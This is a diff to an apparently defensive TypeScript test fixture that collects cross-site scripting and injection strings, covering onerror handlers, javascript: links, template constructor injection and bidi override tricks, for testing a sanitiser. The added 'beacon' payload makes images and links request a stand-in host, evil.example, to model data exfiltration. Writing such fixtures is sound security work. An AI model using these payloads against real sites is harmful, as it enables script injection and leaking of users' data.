@@ -3,8 +3,11 @@ import { callerIn, createTestUser } from './test-user.ts'
 import type { AppServer } from './app-server.ts'
 
 /*
- * A workspace in which every text that someone can choose is an attempt to run a script. Each attempt calls `ran`.
+ * A workspace in which every text that someone can choose is an attempt to run a script or to send a request. Each
+ * script calls `ran`; each request goes to `evilHost`.
  */
+
+export const evilHost = 'evil.example'
 
 /** Short enough for a tag; each breaks out of another place: text, an attribute, a script, a link, a template. */
 export const attempts = {
@@ -18,6 +21,7 @@ export const attempts = {
   reference: `[b][1] ![c](x"onerror="ran(8)) <javascript:ran(8)>\n\n[1]: javascript:ran(8)`,
   template: `\${ran(9)}{{constructor.constructor('ran(9)')()}}`,
   direction: `\u202e\u2066<b onclick=ran(10)>x`,
+  beacon: `![x](https://${evilHost}/?d=1) <img src="https://${evilHost}/2"> ![y][2] <https://${evilHost}/3>\n\n[2]: https://${evilHost}/4`,
 }
 const { picture, script, drawing, link } = attempts
 const all = Object.values(attempts).join('\n\n')
